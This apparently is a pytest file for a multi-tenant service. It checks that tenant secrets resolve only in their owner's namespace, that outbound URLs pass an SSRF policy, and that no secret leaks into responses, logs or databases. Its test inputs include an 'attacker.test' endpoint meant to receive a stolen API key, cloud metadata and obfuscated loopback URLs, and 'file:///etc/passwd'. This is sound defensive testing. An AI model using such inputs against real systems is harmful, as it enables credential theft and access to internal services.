"""Issue 12, defect 1: a secret resolves only in its owner's namespace, every outbound request
passes one policy, and nothing a server answers or holds leaks a configured secret.

The attack: a tenant's inline policy in ``POST /run`` named a platform secret as its LLM
``apiKeyRef`` and pointed ``baseUrl`` at a host it controls (or at the metadata service); exops sent
the secret there as a bearer token and echoed the reply. Then the sweep: with secrets configured for
two tenants and the platform, a live tool run, a delivered notification (webhook and SMTP) and LLM
calls go through the API, and no configured secret value may appear in any response, log record,
database row or checkpoint.
"""

from __future__ import annotations

import json
import logging
import sqlite3
from collections.abc import AsyncIterator, Iterator
from pathlib import Path
from typing import Any

import httpx
import pytest
import respx
import yaml
from aiosmtpd.smtp import AuthResult, LoginPassword

from app.runtime import Runtime, llm_config_for
from app.secrets import SecretBook
from app.settings import Settings
from packs.addresses import literal_address, static_url_refusal
from packs.domain import DomainPack
from packs.endpoints import endpoint_problems
from packs.registry import PackRegistry
from packs.tenant import NotificationPolicies, TenantPolicyPack
from tests.api_helpers import SAMPLES, Api, running_api
from tests.graph_helpers import completion, schema_name
from tests.test_notifications import Mailbox, notice, smtp_server
from tools.executor import RegisteredTool, ToolCall
from tools.outbound import OutboundPolicy, parse_networks
from tools.secrets import SecretMissing

PLATFORM_TOKEN = "plat-capmkts-7c1e0b9a55"
GLOBEX_TOKEN = "glx-capmkts-3f8d2a61e0"
PLATFORM_ONLY = "plat-only-a94c5e12d7"
PLATFORM_LLM_KEY = "sk-platform-llm-9e2c4b1f"
GLOBEX_LLM_KEY = "sk-glx-llm-5b7e9d03aa"
GLOBEX_HOOK_TOKEN = "T0GLX/B0OPS/glxH00kS3cret"
GLOBEX_HOOK = f"https://hooks.globex.test/services/{GLOBEX_HOOK_TOKEN}"
ACME_LLM_KEY = "sk-acme-llm-e61f0c2877"
ACME_HOOK = "https://hooks.acme.test/services/T0ACME/acmeH00kS3cret"
SMTP_PASSWORD = "smtp-pw-0d3b7f91c4"

SECRETS: dict[str, Any] = {
    "platform": {"CAPMKTS_API_TOKEN": PLATFORM_TOKEN, "PLATFORM_ONLY": PLATFORM_ONLY},
    "tenants": {
        "globex-markets": {
            "CAPMKTS_API_TOKEN": GLOBEX_TOKEN,
            "GLOBEX_LLM_KEY": GLOBEX_LLM_KEY,
            "GLOBEX_OPS_EVENTS_WEBHOOK": GLOBEX_HOOK,
        },
        "acme-capital": {"ACME_LLM_KEY": ACME_LLM_KEY, "ACME_SLACK_SETTLEMENTS_WEBHOOK": ACME_HOOK},
    },
}
VALUES = [
    PLATFORM_TOKEN, GLOBEX_TOKEN, PLATFORM_ONLY, PLATFORM_LLM_KEY, GLOBEX_LLM_KEY, GLOBEX_HOOK_TOKEN,
    "glxH00kS3cret", ACME_LLM_KEY, ACME_HOOK, "acmeH00kS3cret", SMTP_PASSWORD,
]  # fmt: skip
"""Every configured secret value, and the distinctive part of each webhook URL."""

PUBLIC = "52.20.1.10"
GLX_1001 = {
    "exceptionId": "GLX-1001",
    "exceptionType": "SETTLEMENT_FAIL",
    "sourceSystem": "murex",
    "rawPayload": {
        "instructionId": "SI-CREST-7712004", "tradeId": "T-20261114-000912", "isin": "GB0002634946",
        "csd": "CREST", "settlementAmount": 62000, "failReason": "UNMATCHED_INSTRUCTION", "daysFailing": 4,
        "counterpartyTier": "TIER_1",
    },
}  # fmt: skip
SUMMARY = {"summary": "The instruction did not match.", "likelyCauses": ["stale SSI"]}
CONTINUE = {"recommendation": "continue", "concerns": [], "rationale": "consistent"}


class Dns:
    """A fake resolver: ``localhost`` is loopback, every other name one public address."""

    def __init__(self) -> None:
        self.asked: list[str] = []

    async def __call__(self, host: str, port: int) -> list[str]:
        self.asked.append(host)
        return ["127.0.0.1"] if host == "localhost" else [PUBLIC]


def policy(allowed: tuple[str, ...] = ()) -> OutboundPolicy:
    return OutboundPolicy(parse_networks(allowed), resolver=Dns())


def sample(kind: str, name: str) -> dict[str, Any]:
    folder = "domains" if kind == "domain" else "tenants"
    data = yaml.safe_load((SAMPLES / folder / f"{name}.yaml").read_text())
    assert isinstance(data, dict)
    return data


def globex_policy(llm: dict[str, Any] | None = None, version: str = "9.0.0") -> dict[str, Any]:
    document = sample("tenant", "globex-markets")
    document["version"] = version
    if llm is not None:
        document["llm"] = llm
    return document


def llm_reply(request: httpx.Request) -> httpx.Response:
    return completion(CONTINUE if schema_name(request) == "SupervisorOpinion" else SUMMARY)


# --- the namespaces ------------------------------------------------------------------------------


def test_the_namespaced_form_and_the_flat_one() -> None:
    book = SecretBook.parse(json.dumps(SECRETS))
    assert book.scope("globex-markets", platform=False)("GLOBEX_LLM_KEY") == GLOBEX_LLM_KEY
    assert book.scope("globex-markets", platform=True)("CAPMKTS_API_TOKEN") == GLOBEX_TOKEN  # own first
    assert book.scope("acme-capital", platform=True)("CAPMKTS_API_TOKEN") == PLATFORM_TOKEN
    flat = SecretBook.parse({"CAPMKTS_API_TOKEN": PLATFORM_TOKEN})
    assert flat.scope("acme-capital", platform=True)("CAPMKTS_API_TOKEN") == PLATFORM_TOKEN
    with pytest.raises(SecretMissing):
        flat.scope("acme-capital", platform=False)("CAPMKTS_API_TOKEN")  # flat = platform-wide
    ids = SecretBook.parse({"tenants": {"TENANT_FINANCE_001": {"K": "v1"}}})
    assert ids.scope("TENANT_FINANCE_001", platform=False)("K") == "v1"  # ids exactly as written
    with pytest.raises(SecretMissing):
        ids.scope("tenant_finance_001", platform=False)("K")


@pytest.mark.parametrize(
    ("tenant", "platform", "ref", "namespace"),
    [
        ("globex-markets", False, "PLATFORM_ONLY", "the secrets of tenant globex-markets"),
        ("globex-markets", False, "ACME_LLM_KEY", "the secrets of tenant globex-markets"),
        ("globex-markets", True, "ACME_LLM_KEY", "the secrets of tenant globex-markets or the platform's"),
        ("nobody", True, "GLOBEX_LLM_KEY", "the secrets of tenant nobody or the platform's"),
    ],
)
def test_a_reference_resolves_only_in_its_owners_namespaces(
    tenant: str, platform: bool, ref: str, namespace: str
) -> None:
    scope = SecretBook.parse(SECRETS).scope(tenant, platform=platform)
    with pytest.raises(SecretMissing) as missing:
        scope(ref)
    assert str(missing.value) == f"secret {ref!r} is not set in {namespace}"
    shown = str(missing.value) + repr(scope) + repr(SecretBook.parse(SECRETS))
    others = {"CAPMKTS_API_TOKEN", "GLOBEX_OPS_EVENTS_WEBHOOK", "ACME_SLACK_SETTLEMENTS_WEBHOOK"}
    assert not [v for v in VALUES if v in shown] and not [name for name in others if name in shown]


@pytest.mark.parametrize(
    "raw",
    [
        '{"platform": {"A": "v-secret-1"}, "B": "v-secret-2"}',
        '{"tenants": ["v-secret-1"]}',
        '{"platform": {"A": 7}}',
        "{not json v-secret-1",
    ],
)
def test_a_malformed_setting_is_refused_without_showing_it(raw: str) -> None:
    with pytest.raises(ValueError) as refused:
        Settings(secrets=raw)
    assert "v-secret" not in str(refused.value)


def test_only_the_runtime_opens_a_scope() -> None:
    """Who may read which namespace is decided in one place (app/runtime.py, from the pack's owner);
    nothing else reaches into the secret map, which is private to app/secrets.py."""
    root = Path(__file__).parent.parent
    found = {
        str(path.relative_to(root))
        for package in ("app", "graph", "tools", "packs", "prompts", "evals")
        for path in (root / package).rglob("*.py")
        if ".scope(" in (text := path.read_text()) or "_SecretBook__" in text
    }
    assert found == {"app/runtime.py"}


def test_settings_expose_no_flat_lookup() -> None:
    settings = Settings(secrets=SECRETS)
    assert not hasattr(settings, "secret")
    assert not [v for v in VALUES if v in repr(settings) + settings.model_dump_json()]


def test_the_operators_llm_key_goes_only_to_the_operators_endpoint() -> None:
    settings = Settings(
        secrets=SECRETS, llm_base_url="https://llm.platform.test/v1", llm_api_key=PLATFORM_LLM_KEY,
        llm_model="platform-model",
    )  # fmt: skip
    tenant = TenantPolicyPack.model_validate(globex_policy())
    platform = llm_config_for(settings, tenant)
    assert platform is not None and platform.api_key == PLATFORM_LLM_KEY
    own_url = TenantPolicyPack.model_validate(globex_policy({"baseUrl": "https://x.test/v1"}))
    elsewhere = llm_config_for(settings, own_url)
    assert elsewhere is not None and elsewhere.base_url == "https://x.test/v1"
    assert elsewhere.api_key == "unused"


@pytest.mark.parametrize(
    ("setting", "value"), [("llm_base_url", "http://127.0.0.1:8080/v1"), ("smtp_host", "10.0.0.25")]
)
def test_operator_endpoints_obey_the_policy_too(setting: str, value: str) -> None:
    with pytest.raises(ValueError, match="refused by the outbound policy"):
        Settings(**{setting: value})
    allowed = Settings(**{setting: value, "outbound_allowed_networks": ["127.0.0.1/32", "10.0.0.0/8"]})
    assert getattr(allowed, setting) == value


# --- static endpoint checks (packs, no I/O) ---------------------------------------------------


@pytest.mark.parametrize(
    ("url", "refused"),
    [
        ("http://169.254.169.254/latest/meta-data", "cloud metadata service"),
        ("http://[fd00:ec2::254]/", "cloud metadata service"),
        ("http://127.0.0.1:8080/v1", "loopback"),
        ("http://[::1]/v1", "loopback"),
        ("http://[::ffff:127.0.0.1]/v1", "loopback"),
        ("http://2130706433/v1", "loopback"),
        ("http://0x7f.1/v1", "loopback"),
        ("http://10.1.2.3/v1", "private"),
        ("http://100.100.100.200/", "cloud metadata service"),
        ("http://0.0.0.0/", "not a unicast public address"),
        ("file:///etc/passwd", "only http and https"),
        ("gopher://llm.test/", "only http and https"),
        ("https:///v1", "no host"),
    ],
)
def test_urls_refused_without_resolving_anything(url: str, refused: str) -> None:
    reason = static_url_refusal(url)
    assert reason is not None and refused in reason


def test_names_and_public_or_allowed_addresses_are_left_to_run_time() -> None:
    assert static_url_refusal("https://api.openai.com/v1") is None
    assert static_url_refusal("http://localhost:8080/v1") is None  # resolved (and refused) at run time
    assert static_url_refusal("https://52.20.1.10/v1") is None
    assert static_url_refusal("http://127.0.0.1:8080/v1", parse_networks(["127.0.0.1/32"])) is None
    assert literal_address("cafe.face") is None and literal_address("1.2.3.4 x") is None


def test_pack_endpoints_are_checked_at_their_paths() -> None:
    document = globex_policy({"baseUrl": "http://169.254.169.254/", "model": "m"})
    document["embeddings"] = {"provider": "openai", "baseUrl": "http://10.0.0.5/v1"}
    tenant = TenantPolicyPack.model_validate(document)
    assert [(p.path, p.message.split(":")[0]) for p in endpoint_problems(tenant, "t.yaml")] == [
        ("$.llm.baseUrl", "refused by the outbound policy"),
        ("$.embeddings.baseUrl", "refused by the outbound policy"),
    ]
    domain = sample("domain", "capital-markets")
    domain["tools"]["get_trade_details"]["endpoint"] = "http://127.0.0.1:9/api"
    [problem] = endpoint_problems(DomainPack.model_validate(domain), "d.yaml")
    assert problem.path == "$.tools.get_trade_details.endpoint" and "loopback" in problem.message
    assert (
        endpoint_problems(DomainPack.model_validate(domain), "d.yaml", parse_networks(["127.0.0.0/8"])) == []
    )


# --- the run-time wiring: tools and webhooks of one tenant never see another's secrets ------------


@pytest.fixture
def runtime() -> Runtime:
    settings = Settings(secrets=SECRETS, tool_mode="live", notifications="send", tool_backoff_seconds=0)
    runtime = Runtime(settings, PackRegistry.from_directory(SAMPLES))
    runtime.outbound = policy()
    return runtime


def tool_call(runtime: Runtime, secret_ref: str, **context: Any) -> tuple[ToolCall, Any]:
    tenant = runtime.tenant("globex-markets")
    domain = runtime.registry.domain_of(tenant)
    tools = dict(domain.tools)
    name = "get_settlement_status"
    definition = tools[name].model_copy(
        update={"auth": tools[name].auth.model_copy(update={"secretRef": secret_ref})}
    )
    tools[name] = definition
    ctx = runtime.context_for(tenant, domain.model_copy(update={"tools": tools}), **context)
    registered = RegisteredTool(
        "globex-markets", domain.domainName, name, definition, timeout_seconds=5, max_retries=0, allowed=True
    )
    return ToolCall(registered, {"instructionId": "SI-1"}, "k" * 32, "GLX-1"), ctx


@pytest.fixture
def wire() -> Iterator[respx.MockRouter]:
    with respx.mock(assert_all_called=False, assert_all_mocked=True) as mock:
        yield mock


async def test_a_tool_uses_the_tenants_secret_first_then_the_platforms(
    runtime: Runtime, wire: respx.MockRouter
) -> None:
    route = wire.get(url__startswith="https://settlements.example.internal/").mock(
        return_value=httpx.Response(200, json={"status": "MATCHED"})
    )
    call, ctx = tool_call(runtime, "CAPMKTS_API_TOKEN")
    assert (await ctx.executor.call(call)).status == "SUCCESS"
    call, ctx = tool_call(runtime, "PLATFORM_ONLY")
    assert (await ctx.executor.call(call)).status == "SUCCESS"
    sent = [c.request.headers["Authorization"] for c in route.calls]
    assert sent == [f"Bearer {GLOBEX_TOKEN}", f"Bearer {PLATFORM_ONLY}"]


@pytest.mark.parametrize(
    ("ref", "owner", "namespace"),
    [
        ("ACME_LLM_KEY", "platform", "the secrets of tenant globex-markets or the platform's"),
        ("PLATFORM_ONLY", "tenant", "the secrets of tenant globex-markets"),
    ],
)
async def test_a_tool_never_gets_another_tenants_secret_nor_the_platforms_in_a_tenants_pack(
    runtime: Runtime, wire: respx.MockRouter, ref: str, owner: Any, namespace: str
) -> None:
    route = wire.route().mock(return_value=httpx.Response(200, json={}))
    call, ctx = tool_call(runtime, ref, domain_owner=owner)
    outcome = await ctx.executor.call(call)
    assert (outcome.status, outcome.attempts) == ("FAILED", 0)
    assert outcome.error == f"tool {call.tool.key}: secret {ref!r} is not set in {namespace}"
    assert route.called is False


async def test_a_webhook_never_gets_another_tenants_url(runtime: Runtime, wire: respx.MockRouter) -> None:
    route = wire.route().mock(return_value=httpx.Response(200))
    ctx = runtime.context("globex-markets")
    policies = NotificationPolicies.model_validate(
        {
            "channels": {"stolen": {"kind": "webhook", "urlRef": "ACME_SLACK_SETTLEMENTS_WEBHOOK"}},
            "recipientsByGroup": {"ops": ["stolen"]},
        }
    )
    [result] = await ctx.notifier.notify(notice("ops", tenant_id="globex-markets"), policies)
    assert result.status == "FAILED" and route.called is False
    assert result.error == (
        "webhook URL secret 'ACME_SLACK_SETTLEMENTS_WEBHOOK' is not set in the secrets of tenant globex-markets"
    )


# --- the attack through the API ------------------------------------------------------------------


@pytest.fixture
async def api(tmp_path: Path) -> AsyncIterator[Api]:
    async with running_api(
        tmp_path, "sqlite", secrets=SECRETS, llm_api_key=PLATFORM_LLM_KEY,
        llm_base_url="https://llm.platform.test/v1",
    ) as api:  # fmt: skip
        api.services.runtime.outbound = policy()
        yield api


def run_body(tenant_policy: dict[str, Any]) -> dict[str, Any]:
    return {"tenantId": "globex-markets", "tenantPolicy": tenant_policy, "exceptions": [GLX_1001]}


@pytest.mark.parametrize("ref", ["PLATFORM_ONLY", "ACME_LLM_KEY", "CAPMKTS_API_TOKEN_OF_NOBODY"])
async def test_an_inline_policy_cannot_send_a_secret_it_does_not_own(
    api: Api, wire: respx.MockRouter, ref: str
) -> None:
    stolen = wire.route(host="attacker.test").mock(side_effect=llm_reply)
    llm = {"baseUrl": "https://attacker.test/v1", "model": "m", "apiKeyRef": ref}
    response = await api.client.post("/run", json=run_body(globex_policy(llm)), headers=api.as_("operator"))
    assert response.status_code == 422, response.text
    [error] = response.json()["errors"]
    assert error == {
        "path": "body.tenantPolicy.llm.apiKeyRef",
        "message": f"secret {ref!r} is not set in the secrets of tenant globex-markets",
    }
    assert stolen.called is False and wire.calls.call_count == 0
    assert not [v for v in VALUES if v in response.text]


async def test_an_inline_policy_with_its_own_url_never_gets_the_operators_key(
    api: Api, wire: respx.MockRouter
) -> None:
    elsewhere = wire.route(host="attacker.test").mock(side_effect=llm_reply)
    llm = {"baseUrl": "https://attacker.test/v1", "model": "m"}
    response = await api.client.post("/run", json=run_body(globex_policy(llm)), headers=api.as_("operator"))
    assert response.status_code == 200, response.text
    assert elsewhere.called
    assert {c.request.headers["Authorization"] for c in elsewhere.calls} == {"Bearer unused"}


async def test_an_inline_policy_of_its_own_namespace_works(api: Api, wire: respx.MockRouter) -> None:
    own = wire.route(host="llm.globex.test").mock(side_effect=llm_reply)
    llm = {"baseUrl": "https://llm.globex.test/v1", "model": "m", "apiKeyRef": "GLOBEX_LLM_KEY"}
    response = await api.client.post("/run", json=run_body(globex_policy(llm)), headers=api.as_("operator"))
    assert response.status_code == 200, response.text
    assert {c.request.headers["Authorization"] for c in own.calls} == {f"Bearer {GLOBEX_LLM_KEY}"}
    assert GLOBEX_LLM_KEY not in response.text


async def test_a_metadata_base_url_is_refused_on_upload_validate_and_run(
    api: Api, wire: respx.MockRouter
) -> None:
    metadata = wire.route(host="169.254.169.254").mock(return_value=httpx.Response(200))
    document = globex_policy({"baseUrl": "http://169.254.169.254/latest", "model": "m"})
    message = (
        "refused by the outbound policy: 169.254.169.254 is a cloud metadata service address "
        "(allow its network in EXOPS_OUTBOUND_ALLOWED_NETWORKS if this is intended)"
    )
    for path in ("/admin/globex-markets/policy", "/admin/globex-markets/policy/validate"):
        refused = await api.client.post(path, json=document, headers=api.as_("admin"))
        assert refused.status_code == 422, refused.text
        assert refused.json()["errors"] == [{"path": "$.llm.baseUrl", "message": message}]
    ran = await api.client.post("/run", json=run_body(document), headers=api.as_("operator"))
    assert ran.status_code == 422, ran.text
    assert ran.json()["errors"] == [{"path": "body.tenantPolicy.llm.baseUrl", "message": message}]
    assert metadata.called is False
    versions = await api.client.get("/admin/globex-markets/policy", headers=api.as_("admin"))
    assert "9.0.0" not in versions.text


async def test_an_inline_domain_pack_gets_the_uploads_endpoint_checks(api: Api) -> None:
    domain = sample("domain", "capital-markets")
    domain["tools"]["get_trade_details"]["endpoint"] = "http://10.0.0.8/api/v2/trades/lookup"
    body = {**run_body(globex_policy()), "domainPack": domain}
    ran = await api.client.post("/run", json=body, headers=api.as_("operator"))
    uploaded = await api.client.post("/admin/domain-packs", json=domain, headers=api.as_("platform_admin"))
    assert (ran.status_code, uploaded.status_code) == (422, 422)
    assert ran.json()["errors"][0]["path"] == "body.domainPack.tools.get_trade_details.endpoint"
    assert uploaded.json()["errors"][0]["path"] == "$.tools.get_trade_details.endpoint"
    assert ran.json()["errors"][0]["message"] == uploaded.json()["errors"][0]["message"]


def llm_evidence(result: dict[str, Any]) -> str:
    return json.dumps([stage["evidence"] for stage in result["stages"]])


@pytest.mark.parametrize("allowed", [(), ("127.0.0.1/32",)])
async def test_a_loopback_llm_is_refused_at_run_time_unless_allowed(
    api: Api, wire: respx.MockRouter, allowed: tuple[str, ...]
) -> None:
    api.services.runtime.outbound = policy(allowed)
    local = wire.route(host="localhost").mock(side_effect=llm_reply)
    llm = {"baseUrl": "http://localhost:8080/v1", "model": "m", "apiKeyRef": "GLOBEX_LLM_KEY"}
    response = await api.client.post("/run", json=run_body(globex_policy(llm)), headers=api.as_("operator"))
    assert response.status_code == 200, response.text
    evidence = llm_evidence(response.json()["results"][0])
    refusal = (
        "refused by the outbound policy: localhost resolves to 127.0.0.1, refused: 127.0.0.1 is a loopback"
    )
    if allowed:
        assert local.called and refusal not in evidence
    else:
        assert local.called is False and refusal in evidence


async def test_an_llm_redirect_is_not_followed_and_its_body_not_echoed(
    api: Api, wire: respx.MockRouter
) -> None:
    moved = wire.route(host="llm.globex.test").mock(
        return_value=httpx.Response(
            302, headers={"Location": "http://169.254.169.254/latest"}, text="moved: internal-detail-7731"
        )
    )
    metadata = wire.route(host="169.254.169.254").mock(return_value=httpx.Response(200, text="iam"))
    llm = {"baseUrl": "https://llm.globex.test/v1", "model": "m", "apiKeyRef": "GLOBEX_LLM_KEY"}
    response = await api.client.post("/run", json=run_body(globex_policy(llm)), headers=api.as_("operator"))
    assert response.status_code == 200, response.text
    assert moved.called and metadata.called is False
    assert "internal-detail-7731" not in response.text and "169.254.169.254" not in response.text
    assert "redirect, which is not followed" in llm_evidence(response.json()["results"][0])


# --- the secrets sweep ---------------------------------------------------------------------------


def database_text(path: Path) -> str:
    """Every row of every table of a SQLite file, as text."""
    with sqlite3.connect(path) as connection:
        tables = [name for (name,) in connection.execute("SELECT name FROM sqlite_master WHERE type='table'")]
        rows = [repr(row) for table in tables for row in connection.execute(f'SELECT * FROM "{table}"')]
    assert tables
    return "\n".join(rows)


def files_bytes(root: Path) -> dict[str, bytes]:
    return {str(path): path.read_bytes() for path in root.rglob("*") if path.is_file()}


def log_text(records: list[logging.LogRecord]) -> str:
    parts = []
    for record in records:
        parts += [record.getMessage(), repr(record.args), record.exc_text or "", str(record.__dict__)]
    return "\n".join(parts)


async def test_secrets_sweep(tmp_path: Path, caplog: pytest.LogCaptureFixture) -> None:
    caplog.set_level(logging.DEBUG)
    mailbox, logins = Mailbox(), []

    def authenticator(server: Any, session: Any, envelope: Any, mechanism: str, data: Any) -> AuthResult:
        assert isinstance(data, LoginPassword)
        logins.append(data.password.decode())
        return AuthResult(success=data.password == SMTP_PASSWORD.encode(), handled=False)

    exchanges: list[httpx.Response] = []
    with (
        smtp_server(mailbox, authenticator=authenticator, auth_require_tls=False) as smtp,
        respx.mock(assert_all_called=False, assert_all_mocked=True) as wire,
    ):
        status_route = wire.get(
            url__startswith="https://settlements.example.internal/api/instructions/status"
        )
        status_route.mock(return_value=httpx.Response(200, json={"status": "UNMATCHED"}))
        retry_route = wire.post("https://settlements.example.internal/api/instructions/retry")
        retry_route.mock(return_value=httpx.Response(500, json={"error": f"echo {GLOBEX_TOKEN}"}))
        hook = wire.post(GLOBEX_HOOK).mock(return_value=httpx.Response(200))
        llm = wire.route(host="llm.globex.test").mock(side_effect=llm_reply)
        async with running_api(
            tmp_path, "sqlite", secrets=json.dumps(SECRETS), tool_mode="live", notifications="send",
            smtp_host=smtp.host, smtp_port=smtp.port, smtp_username="exops", smtp_password=SMTP_PASSWORD,
            outbound_allowed_networks=["127.0.0.1/32"], tool_backoff_seconds=0, notification_retries=0,
            llm_api_key=PLATFORM_LLM_KEY,
        ) as api:  # fmt: skip
            api.services.runtime.outbound = policy(("127.0.0.1/32",))
            own_llm = {"baseUrl": "https://llm.globex.test/v1", "model": "m", "apiKeyRef": "GLOBEX_LLM_KEY"}
            admin, operator = api.as_("admin"), api.as_("operator")
            exchanges.append(
                await api.client.post(
                    "/admin/globex-markets/policy?activate=true", json=globex_policy(own_llm), headers=admin
                )
            )
            assert exchanges[-1].status_code == 201, exchanges[-1].text
            exchanges.append(await api.post_and_settle("globex-markets", GLX_1001))
            base = "/exceptions/globex-markets"
            for path in (base, f"{base}/GLX-1001", f"{base}/GLX-1001/events?limit=200",
                         f"{base}/GLX-1001/playbook", "/admin/globex-markets/tools", "/approvals/globex-markets",
                         "/admin/globex-markets/policy", "/admin/globex-markets/policy/versions/9.0.0"):  # fmt: skip
                exchanges.append(await api.client.get(path, headers=admin))
            for ref in ("PLATFORM_ONLY", "ACME_LLM_KEY"):
                stolen = {**own_llm, "apiKeyRef": ref}
                exchanges.append(
                    await api.client.post("/run", json=run_body(globex_policy(stolen)), headers=operator)
                )
            exchanges.append(
                await api.client.post("/run", json=run_body(globex_policy(own_llm)), headers=operator)
            )
            login = {"credential": admin["X-API-KEY"], "next": "/ui/t/globex-markets/exceptions"}
            exchanges.append(await api.client.post("/ui/login", data=login))
            exchanges.append(await api.client.get("/ui/t/globex-markets/exceptions/GLX-1001"))
            assert exchanges[-1].status_code == 200 and "GLX-1001" in exchanges[-1].text
            data_dir = api.settings.data_dir
            case = exchanges[3].json()

        # the secrets really were used where they belong, so the sweep below is not vacuous
        assert {c.request.headers["Authorization"] for c in status_route.calls} == {f"Bearer {GLOBEX_TOKEN}"}
        assert retry_route.called and hook.called and logins == [SMTP_PASSWORD] and mailbox.received
        assert {c.request.headers["Authorization"] for c in llm.calls} == {f"Bearer {GLOBEX_LLM_KEY}"}
        assert case["resolutionStatus"] == "ESCALATED"

    assert [e.status_code for e in exchanges[-5:-2]] == [422, 422, 200]
    shown = "\n".join(
        f"{r.status_code} {r.headers!r} {r.text}" for r in exchanges
    )  # every response: status, headers, body
    assert not [v for v in VALUES if v in shown]
    logged = log_text(caplog.records)
    leaked = [
        r.name + ": " + r.getMessage() for r in caplog.records if any(v in log_text([r]) for v in VALUES)
    ]
    assert caplog.records and not [v for v in VALUES if v in logged], leaked
    stored = database_text(data_dir / "exops.db") + database_text(data_dir / "checkpoints.sqlite")
    assert "GLX-1001" in stored and not [v for v in VALUES if v in stored]
    on_disk = files_bytes(data_dir)
    leaks = [(name, v) for name, content in on_disk.items() for v in VALUES if v.encode() in content]
    assert any(name.endswith("checkpoints.sqlite") for name in on_disk) and leaks == []


def test_llm_clients_kept_are_bounded(runtime: Runtime) -> None:
    """Inline /run policies can name endless LLM configurations: the runtime keeps only the latest."""
    from app.runtime import LLM_CLIENTS_KEPT
    from graph.llm import LlmConfig

    configs = [
        LlmConfig(base_url=f"https://llm{i}.example/v1", api_key="k", model="m", timeout_seconds=5)
        for i in range(LLM_CLIENTS_KEPT + 8)
    ]
    first = runtime.llm(configs[0])
    for config in configs[1:]:
        runtime.llm(config)
    assert len(runtime._llm) == LLM_CLIENTS_KEPT
    assert runtime.llm(configs[-1]) is runtime.llm(configs[-1])
    assert runtime.llm(configs[0]) is not first  # evicted, then built again
